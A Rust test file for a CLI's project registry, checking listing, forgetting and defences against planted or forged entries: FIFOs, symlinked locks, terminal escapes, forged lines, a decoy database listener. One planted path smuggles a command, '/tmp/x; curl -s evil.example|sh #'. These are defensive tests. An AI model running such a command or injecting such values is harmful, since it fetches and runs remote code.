//! `loopx projects`: every project a person ran `loopx init` in, at a glance, from a list kept
//! in their state directory (`docs/projects.md`).

use std::os::unix::fs::PermissionsExt;

use crate::support::Loopx;

/// A project whose commands share `state` (one person's state directory) with others.
pub(crate) fn project_of(state: &std::path::Path) -> Loopx {
    let loopx = Loopx::empty();
    let init = loopx.run_env(&["init"], &[("XDG_STATE_HOME", path(state))]);
    assert_eq!(init.code, 0, "{init:?}");
    loopx
}

pub(crate) fn path(p: &std::path::Path) -> &str {
    p.to_str().expect("a UTF-8 path")
}

fn projects(state: &std::path::Path, args: &[&str]) -> crate::support::Run {
    let anywhere = Loopx::empty();
    let args: Vec<&str> = ["projects"].iter().chain(args).copied().collect();
    anywhere.run_env(&args, &[("XDG_STATE_HOME", path(state))])
}

#[test]
fn init_registers_each_project_and_projects_shows_what_each_holds() {
    let state = tempfile::tempdir().expect("temp dir");
    let busy = project_of(state.path());
    let env = [("XDG_STATE_HOME", path(state.path()))];
    assert_eq!(
        busy.run_env(&["goal", "start", "Ship the \x1b[31mthing"], &env)
            .code,
        0
    );
    assert_eq!(
        busy.run_env(
            &[
                "gate",
                "ask",
                "Should the project be MIT (a) or Apache-2.0 (b)?",
                "--global"
            ],
            &env
        )
        .code,
        0
    );
    let quiet = project_of(state.path());
    // Again in the same project: listed once.
    assert_eq!(quiet.run_env(&["init"], &env).code, 0);

    let listed = projects(state.path(), &["--json"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    let json = listed.json();
    let all = json["projects"].as_array().expect("a list");
    assert_eq!(all.len(), 2, "{json}");
    let root = |l: &Loopx| path(&l.path().canonicalize().expect("root")).to_owned();
    assert_eq!(all[0]["root"], root(&busy));
    assert_eq!(all[0]["state"], "read");
    assert_eq!(all[0]["goals"][0]["id"], "g1");
    assert_eq!(all[0]["questions"], 1);
    assert_eq!(all[0]["running"], 0);
    assert!(all[0]["last_activity"].is_string(), "{json}");
    assert_eq!(all[1]["root"], root(&quiet));
    assert_eq!(all[1]["goals"].as_array().map(Vec::len), Some(0));

    let text = projects(state.path(), &[]);
    assert_eq!(text.code, 0, "{text:?}");
    assert!(
        text.stdout
            .contains("1 active goal, 1 question open, 0 running"),
        "{}",
        text.stdout
    );
    // What a terminal would obey is not even stored (the kernel drops it from every text it
    // keeps), so nothing of it reaches the listing.
    assert!(
        text.stdout.contains("g1  Ship the thing") && !text.stdout.contains('\u{1b}'),
        "{}",
        text.stdout
    );
    assert!(
        !text.stdout.contains('\x1b'),
        "no escape reaches the terminal"
    );

    // A project deleted since is shown as gone, and forgetting it removes it.
    let quiet_root = root(&quiet);
    drop(quiet);
    let gone = projects(state.path(), &[]);
    assert!(
        gone.stdout.contains(&format!(
            "{quiet_root}: gone (moved or deleted; `loopx projects forget {quiet_root}`"
        )),
        "{}",
        gone.stdout
    );
    assert_eq!(projects(state.path(), &["forget", &quiet_root]).code, 0);
    let after = projects(state.path(), &["--json"]).json();
    assert_eq!(
        after["projects"].as_array().map(Vec::len),
        Some(1),
        "{after}"
    );
    let again = projects(state.path(), &["forget", &quiet_root]);
    assert_eq!(again.code, 2, "{again:?}");
    assert!(
        again.stderr.contains("is not in the list of projects"),
        "{}",
        again.stderr
    );
}

#[test]
fn a_registry_that_does_not_parse_is_named_and_left_as_it_is() {
    let state = tempfile::tempdir().expect("temp dir");
    let file = state.path().join("loopx/projects.json");
    std::fs::create_dir_all(file.parent().expect("dir")).expect("dir");
    std::fs::write(&file, "{\"version\": 1,\n \"projects\": [oops]}").expect("write");
    let listed = projects(state.path(), &[]);
    assert_eq!(listed.code, 3, "{listed:?}");
    assert!(listed.stderr.contains(path(&file)), "{}", listed.stderr);
    assert!(listed.stderr.contains("line 2"), "{}", listed.stderr);
    // `loopx init` still makes the project, says why it is not listed, and keeps the file.
    let loopx = Loopx::empty();
    let init = loopx.run_env(&["init"], &[("XDG_STATE_HOME", path(state.path()))]);
    assert_eq!(init.code, 0, "{init:?}");
    assert!(
        init.stdout.contains("not in `loopx projects`"),
        "{}",
        init.stdout
    );
    assert!(loopx.path().join(".loopx").is_dir());
    assert_eq!(
        std::fs::read_to_string(&file).expect("read"),
        "{\"version\": 1,\n \"projects\": [oops]}"
    );
}

#[test]
fn projects_registered_at_once_are_all_kept() {
    let state = tempfile::tempdir().expect("temp dir");
    let made: Vec<Loopx> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..8)
            .map(|_| s.spawn(|| project_of(state.path())))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("init"))
            .collect()
    });
    let json = projects(state.path(), &["--json"]).json();
    assert_eq!(
        json["projects"].as_array().map(Vec::len),
        Some(made.len()),
        "{json}"
    );
}

#[test]
fn an_agent_inside_a_slice_cannot_list_or_forget_projects() {
    let state = tempfile::tempdir().expect("temp dir");
    let loopx = project_of(state.path());
    for args in [vec!["projects"], vec!["projects", "forget", "/tmp"]] {
        let refused = loopx.run_env(
            &args,
            &[
                ("XDG_STATE_HOME", path(state.path())),
                ("LOOPX_SLICE", "s1"),
            ],
        );
        assert_eq!(refused.code, 6, "{refused:?}");
    }
    assert_eq!(
        projects(state.path(), &["--json"]).json()["projects"]
            .as_array()
            .map(Vec::len),
        Some(1)
    );
}

#[test]
fn status_all_shows_each_project_s_screen_and_says_which_cannot_be_shown() {
    let state = tempfile::tempdir().expect("temp dir");
    let env = [("XDG_STATE_HOME", path(state.path()))];
    let first = project_of(state.path());
    assert_eq!(
        first
            .run_env(&["goal", "start", "Ship the client"], &env)
            .code,
        0
    );
    assert_eq!(first.run_env(&["todo", "add", "Add retries"], &env).code, 0);
    let broken = project_of(state.path());
    std::fs::write(broken.path().join(".loopx/loopx.toml"), "garbage [\n").expect("write");
    let anywhere = Loopx::empty();
    let all = anywhere.run_env(&["status", "--all"], &env);
    assert_eq!(all.code, 0, "{all:?}");
    let root = |l: &Loopx| path(&l.path().canonicalize().expect("root")).to_owned();
    let at = |text: &str| {
        all.stdout
            .find(text)
            .unwrap_or_else(|| panic!("{text}: {}", all.stdout))
    };
    assert!(at(&format!("== {}", root(&first))) < at("Goal g1 (active): Ship the client"));
    assert!(at("Goal g1 (active)") < at("t1    [0] Add retries"));
    assert!(at("t1    [0] Add retries") < at(&format!("== {}", root(&broken))));
    assert!(all.stdout.contains("cannot be shown: "), "{}", all.stdout);
    assert!(all.stdout.contains("loopx.toml:1"), "{}", all.stdout);

    let json = anywhere
        .run_env(&["status", "--all", "--json"], &env)
        .json();
    let projects = json["status_all"].as_array().expect("a list");
    assert_eq!(projects[0]["status"]["goal"]["id"], "g1", "{json}");
    assert!(projects[1]["error"].is_string(), "{json}");
}

/// A project whose store is a FIFO: a reader that opened it would block for ever.
pub(crate) fn fifo_project() -> tempfile::TempDir {
    let fifo = tempfile::tempdir().expect("temp dir");
    std::fs::create_dir(fifo.path().join(".loopx")).expect("dir");
    let made = std::process::Command::new("mkfifo")
        .arg(fifo.path().join(".loopx/state.redb"))
        .status()
        .expect("mkfifo");
    assert!(made.success());
    fifo
}

/// A project whose `loopx.toml` names a database, and that database: a listener that records
/// whoever connects (with the person's PGPASSWORD, if it asked) — none may. Its URL too.
pub(crate) fn database_project() -> (std::net::TcpListener, tempfile::TempDir, String) {
    let db = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    db.set_nonblocking(true).expect("nonblocking");
    let remote = tempfile::tempdir().expect("temp dir");
    std::fs::create_dir(remote.path().join(".loopx")).expect("dir");
    let url = format!(
        "postgres://victim@127.0.0.1:{}/x",
        db.local_addr().expect("addr").port()
    );
    std::fs::write(
        remote.path().join(".loopx/loopx.toml"),
        format!("[store]\nurl = \"{url}\"\n"),
    )
    .expect("write");
    (db, remote, url)
}

/// Writes the list by hand, as something with the person's rights might.
pub(crate) fn plant(state: &std::path::Path, roots: &[&str]) {
    let file = state.join("loopx/projects.json");
    std::fs::create_dir_all(file.parent().expect("dir")).expect("dir");
    let projects: Vec<_> = roots
        .iter()
        .map(|r| serde_json::json!({ "root": r, "added": "2026-12-07T00:00:00Z" }))
        .collect();
    let text = serde_json::json!({ "version": 1, "projects": projects }).to_string();
    std::fs::write(file, text).expect("write");
}

/// `loopx ARGS` in `dir` with the person's state in `state`, given at most 20 s.
fn bounded(state: &std::path::Path, dir: &std::path::Path, args: &[&str]) -> crate::support::Run {
    let mut cmd = std::process::Command::new(crate::support::LOOPX);
    cmd.args(args)
        .current_dir(dir)
        .env("XDG_STATE_HOME", state)
        .env_remove("LOOPX_SLICE")
        .env_remove("LOOPX_PROJECT")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null());
    let within = std::time::Duration::from_secs(20);
    crate::support::finished_within(cmd, within)
        .unwrap_or_else(|| panic!("`loopx {}` hung", args.join(" ")))
}

#[test]
fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
    let state = tempfile::tempdir().expect("temp dir");
    let good = project_of(state.path());
    let fifo = fifo_project();
    let (db, remote, url) = database_project();
    // A database whose name, percent-decoded, holds a line break and a line of its own.
    let forged_db = tempfile::tempdir().expect("temp dir");
    std::fs::create_dir(forged_db.path().join(".loopx")).expect("dir");
    std::fs::write(
        forged_db.path().join(".loopx/loopx.toml"),
        "[store]\nurl = \"postgres://u@127.0.0.1:1/x%0A/tmp/c: 0 active goals, 0 questions open\"\n",
    )
    .expect("write");
    let good_root = good.path().canonicalize().expect("root");
    let forged = "/x/gone\n/tmp/b: 0 active goals, 0 questions open, 0 running, 0 monitors waiting; last activity 3d ago";
    plant(
        state.path(),
        &[
            fifo.path().to_str().expect("utf-8"),
            remote.path().to_str().expect("utf-8"),
            forged_db.path().to_str().expect("utf-8"),
            good_root.to_str().expect("utf-8"),
            forged,
            "/tmp/x; curl -s evil.example|sh #",
            ".",
        ],
    );
    let listed = bounded(state.path(), good.path(), &["projects"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    let out = &listed.stdout;
    assert!(out.contains("is a FIFO"), "{out}");
    assert!(
        out.contains("its store is the database postgres://victim@127.0.0.1"),
        "{out}"
    );
    assert!(
        out.contains(&format!("{}: 0 active goals", good_root.display())),
        "{out}"
    );
    assert!(db.accept().is_err(), "nobody connected to the database");
    assert!(
        !out.lines().any(|l| l.starts_with("/tmp/b:")),
        "no forged line: {out}"
    );
    assert!(
        !out.lines().any(|l| l.starts_with("/tmp/c:")),
        "no forged line: {out}"
    );
    assert!(
        out.contains("forget '/tmp/x; curl -s evil.example|sh #'"),
        "{out}"
    );
    assert!(
        out.contains(".: cannot be read now: not an absolute path"),
        "{out}"
    );
    let all = bounded(state.path(), good.path(), &["status", "--all"]);
    assert_eq!(all.code, 0, "{all:?}");
    assert!(
        db.accept().is_err(),
        "status --all connected to the database"
    );
    assert!(
        !all.stdout.lines().any(|l| l.starts_with("/tmp/c:")),
        "{}",
        all.stdout
    );
    // Not even when the environment names a database for "this" project.
    let mut cmd = std::process::Command::new(crate::support::LOOPX);
    cmd.args(["status", "--all"])
        .current_dir(good.path())
        .env("XDG_STATE_HOME", state.path())
        .env("LOOPX_STORE_URL", &url)
        .stdin(std::process::Stdio::null());
    let with_url = crate::support::finished_within(cmd, std::time::Duration::from_secs(20))
        .expect("status --all finishes");
    assert!(
        db.accept().is_err(),
        "status --all used LOOPX_STORE_URL: {with_url:?}"
    );
    assert!(
        with_url.stdout.contains("Needs you"),
        "the redb project's own screen: {}",
        with_url.stdout
    );
    // And in the project itself, `loopx status` says what is wrong instead of waiting.
    let status = bounded(state.path(), fifo.path(), &["status"]);
    assert_ne!(status.code, 0, "{status:?}");
    assert!(status.stderr.contains("is a FIFO"), "{}", status.stderr);
}

#[test]
fn the_list_s_files_are_private_and_a_planted_lock_never_hangs_init() {
    let state = tempfile::tempdir().expect("temp dir");
    let dir = state.path().join("loopx");
    std::fs::create_dir(&dir).expect("dir");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    project_of(state.path());
    let mode =
        |p: &std::path::Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(mode(&dir.join("projects.json")), 0o600);
    assert_eq!(mode(&dir.join("projects.lock")), 0o600);

    // A lock someone holds: `init` waits a few seconds, then makes the project and says why
    // it is not listed.
    let held = std::fs::File::open(dir.join("projects.lock")).expect("open");
    held.lock().expect("lock");
    let loopx = Loopx::empty();
    let init = bounded(state.path(), loopx.path(), &["init"]);
    assert_eq!(init.code, 0, "{init:?}");
    assert!(
        init.stdout.contains("held projects.lock"),
        "{}",
        init.stdout
    );
    drop(held);
    // A FIFO, or a link to someone's file, in the lock's place.
    std::fs::remove_file(dir.join("projects.lock")).expect("rm");
    let made = std::process::Command::new("mkfifo")
        .arg(dir.join("projects.lock"))
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let fifo = bounded(state.path(), loopx.path(), &["init"]);
    assert!(fifo.stdout.contains("not in `loopx projects`"), "{fifo:?}");
    std::fs::remove_file(dir.join("projects.lock")).expect("rm");
    let victim = state.path().join("victim.txt");
    std::fs::write(&victim, "mine\n").expect("write");
    std::os::unix::fs::symlink(&victim, dir.join("projects.lock")).expect("link");
    let linked = bounded(state.path(), loopx.path(), &["init"]);
    assert!(
        linked.stdout.contains("not in `loopx projects`"),
        "{linked:?}"
    );
    assert_eq!(std::fs::read_to_string(&victim).expect("read"), "mine\n");
}

#[test]
fn forget_removes_the_entry_named_not_the_one_a_link_now_points_to() {
    let state = tempfile::tempdir().expect("temp dir");
    let kept = project_of(state.path());
    let kept_root = kept.path().canonicalize().expect("root");
    let gone = tempfile::tempdir().expect("temp dir");
    let old = gone.path().join("oldexp");
    plant(
        state.path(),
        &[
            kept_root.to_str().expect("utf-8"),
            old.to_str().expect("utf-8"),
        ],
    );
    // Since registered, the old project's path became a link to the kept one.
    std::os::unix::fs::symlink(&kept_root, &old).expect("link");
    assert_eq!(
        projects(state.path(), &["forget", old.to_str().expect("utf-8")]).code,
        0
    );
    let json = projects(state.path(), &["--json"]).json();
    assert_eq!(json["projects"].as_array().map(Vec::len), Some(1), "{json}");
    assert_eq!(
        json["projects"][0]["root"],
        kept_root.to_str().expect("utf-8")
    );
}
